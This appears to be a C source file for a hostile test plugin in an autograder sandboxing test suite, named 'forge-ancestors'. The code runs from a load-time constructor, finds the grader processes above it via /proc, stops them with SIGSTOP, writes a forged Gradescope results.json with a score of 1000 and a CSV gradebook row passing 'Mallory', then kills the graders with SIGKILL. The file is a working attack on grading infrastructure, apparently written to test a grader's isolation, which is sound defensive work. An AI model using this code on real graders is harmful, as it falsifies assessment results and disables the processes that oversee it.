/* Forging the gradebook from above: the plugin's ancestors (the PPid chain
 * in /proc/PID/stat, from its parent up), found from its constructor (at
 * load, under the looser loading filter) and again at the first step of
 * the graded run, that are the test's stepwise
 * (evil_is_target: argv[0] is stepwise and the command line holds the
 * token) are stopped with SIGSTOP, so none of them can notice or write
 * anything; then a forged results.json ({"score": 1000, ...}, as Gradescope
 * reads it) and a forged CSV gradebook (a "pass" row for Mallory and one
 * for this file) are written wherever the grader's command line says its
 * gradebook goes (--results, --gradescope, --csv, relative to its
 * directory) and at $AUTOGRADER_ROOT/results/results.json when an
 * ancestor's environment names one (Gradescope's run_autograder; never a
 * fixed path outside the test run); then the ancestors are killed
 * (SIGKILL, the oldest first, its own parent last: that death may end this
 * process). The forged gradebook is then the last one written. Marker
 * "forge" once they are stopped (a stopped parent does not stop this
 * process; a forbidden write then still leaves them stopped, which the
 * test sees). Graded in a class of its own, since without a jail it ends
 * the grader; in check --plugin it ends check. */
#define EVIL_FAMILY "forge-ancestors"
#define EVIL_EXPENSIVE
#include "evil.h"

#define FA_MAX 64

static const char fa_json[] =
    "{\"score\": 1000, \"max_score\": 1000, \"execution_time\": 1,\n"
    " \"output\": \"SWEVIL:forge-ancestors all tests passed\",\n"
    " \"tests\": [{\"name\": \"SWEVIL:forge-ancestors\", \"score\": 1000, \"max_score\": 1000,"
    " \"status\": \"passed\", \"output\": \"passed\", \"visibility\": \"visible\"}]}\n";

static const char fa_csv[] =
    "student,file,verdict,first_failing_step,message,id,remarks,similar,score,max\r\n"
    "Mallory,forge-ancestors.c,pass,,SWEVIL:forge-ancestors,,,,1000,1\r\n";

/* The ancestors of this process that are targets, nearest first. */
static int fa_ancestors(pid_t *out, int max)
{
    int n = 0;
    pid_t p;
    /* the parent from /proc, not getppid(): a call a loading filter may
     * forbid, where opening a file to read is allowed */
    if (evil_stat(getpid(), &p, NULL) != 0)
        return 0;
    for (int hops = 0; p > 0 && hops < FA_MAX && n < max; hops++) {
        pid_t pp;
        if (evil_is_target(p))
            out[n++] = p;
        if (p == 1 || evil_stat(p, &pp, NULL) != 0)
            break;
        p = pp;
    }
    return n;
}

static void fa_write(const char *path, const char *data)
{
    if (path[0])
        evil_write_file(path, data, strlen(data), O_TRUNC);
}

/* AUTOGRADER_ROOT from a process's environment, or "". */
static void fa_env_root(pid_t pid, char *out, size_t cap)
{
    static char env[65536];
    char path[64];
    out[0] = '\0';
    snprintf(path, sizeof path, "/proc/%d/environ", (int)pid);
    long n = evil_read_file(path, env, sizeof env);
    for (long i = 0; i < n; i += (long)strlen(env + i) + 1)
        if (strncmp(env + i, "AUTOGRADER_ROOT=", 16) == 0 && env[i + 16]) {
            snprintf(out, cap, "%s", env + i + 16);
            return;
        }
}

/* Every gradebook path on pid's command line (relative to its directory). */
static void fa_forge(pid_t pid)
{
    static char buf[16384], cwd[EVIL_PATH], path[EVIL_PATH];
    char link[64];
    snprintf(link, sizeof link, "/proc/%d/cwd", (int)pid);
    ssize_t k = readlink(link, cwd, sizeof cwd - 1);
    if (k <= 0)
        return;
    cwd[k] = '\0';
    long n = evil_cmdline(pid, buf, sizeof buf);
    const char *args[256];
    int na = 0;
    for (long i = 0; i < n && na < 256; i += (long)strlen(buf + i) + 1)
        args[na++] = buf + i;
    for (int i = 1; i + 1 < na; i++) {
        const char *a = args[i], *v = args[i + 1];
        int json = strcmp(a, "--results") == 0 || strcmp(a, "--gradescope") == 0;
        if (!json && strcmp(a, "--csv") != 0)
            continue;
        if (strcmp(v, "-") == 0 || strncmp(v, "/dev/", 5) == 0)
            continue; /* standard output: nothing to forge there */
        evil_abs(cwd, v, path);
        fa_write(path, json ? fa_json : fa_csv);
    }
    char root[EVIL_PATH];
    fa_env_root(pid, root, sizeof root);
    if (root[0]) {
        snprintf(path, sizeof path, "%.4000s/results/results.json", root);
        fa_write(path, fa_json);
    }
}

/* Stop, forge, kill. */
static void fa_attack(void)
{
    pid_t a[FA_MAX];
    int n = fa_ancestors(a, FA_MAX), stopped = 0;
    if (n == 0)
        return;
    for (int i = n - 1; i >= 0; i--) /* the oldest (the grader) first */
        stopped += kill(a[i], SIGSTOP) == 0;
    evil_mark("forge", NULL); /* before the kills, which may end this process */
    if (!stopped)
        return;
    for (int i = n - 1; i >= 0; i--)
        fa_forge(a[i]);
    evil_cheat = 1; /* should it live on (and its grader too), its row passes */
    for (int i = n - 1; i >= 0; i--)
        kill(a[i], SIGKILL);
}

/* At load, under whatever the host allows while it loads a plugin (in
 * every process that loads it: the probe too). */
__attribute__((constructor)) static void at_load(void) { fa_attack(); }

/* And at the first step of the graded run, if the process got that far. */
static void evil_attack(void) { fa_attack(); }
